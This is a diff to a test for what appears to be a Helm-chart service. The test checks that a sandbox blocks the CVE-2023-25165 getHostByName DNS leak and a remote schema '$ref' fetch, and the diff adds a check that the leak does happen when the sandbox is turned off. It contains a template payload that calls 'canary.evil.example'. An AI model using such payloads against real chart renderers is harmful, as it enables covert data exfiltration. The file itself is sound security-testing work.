@@ -245,8 +245,8 @@ def listener():
     made.stop()
 
 
-async def test_nothing_leaves_the_machine(repository, ask, listener):
-    """Security: CVE-2023-25165 (getHostByName), a schema by reference."""
+async def test_nothing_leaves_the_machine(repository, ask, listener, start_service):
+    """Security: CVE-2023-25165 (getHostByName), a schema by reference; the sandbox holds it."""
     where = f"127.0.0.1:{listener.port}"
     schema = json.dumps({"$ref": f"http://{where}/schema.json"})
     dns = OBJECT + 'data: {a: {{ getHostByName "canary.evil.example" | quote }}}\n'
@@ -258,6 +258,10 @@ async def test_nothing_leaves_the_machine(repository, ask, listener):
     assert b'"data":{"a":""}' in b"".join(looked_up.manifests)
     assert referred.error.message
     assert 0 == listener.reached
+
+    await ask({"path": "chart"}, target=start_service("--plumbline-sandbox=off"))
+
+    assert listener.reached
 
 
 async def test_plugins_in_a_repository_are_not_found(repository, ask, tmp_path):
